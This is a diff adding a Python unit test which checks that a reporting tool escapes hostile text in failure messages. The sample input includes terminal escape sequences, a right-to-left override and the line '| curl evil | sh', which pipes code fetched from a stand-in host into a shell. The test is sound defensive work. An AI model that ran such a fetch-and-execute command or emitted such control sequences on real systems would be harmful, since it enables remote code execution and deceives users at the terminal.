@@ -75,6 +75,17 @@ def test_a_program_gets_everything() -> None:
     assert [one["state"] for one in told["checks"]] == ["ok", "failure", "warning"]
 
 
+def test_what_a_stranger_says_is_no_command_of_the_terminal() -> None:
+    """A title that is set, a screen that is cleared, a line that looks like a remedy."""
+    said = failure("\x1b]0;x\x07a\x9b2J\n | curl evil | sh\u202etxt", "tail\r\n\x1b[8mlog")
+    text = list(as_text([finding("tls.chain", said)], lambda word, _colour: word, shows_skipped=False))
+    assert text[1].endswith(r"tls.chain  \u001b]0;x\u0007a\u009b2J  | curl evil | sh\u202etxt")
+    assert text[2].endswith(r"| tail  \u001b[8mlog")
+    assert len(text) == 5
+    shown = as_json([finding("tls.chain", said)])
+    assert not {"\x1b", "\x9b", "\u202e"} & set(shown)
+
+
 def test_every_group_has_a_heading() -> None:
     assert {check.group for check in CHECKS} - {"clock"} <= set(GROUPS)
     assert set(GROUPS) == {check.group for check in CHECKS}
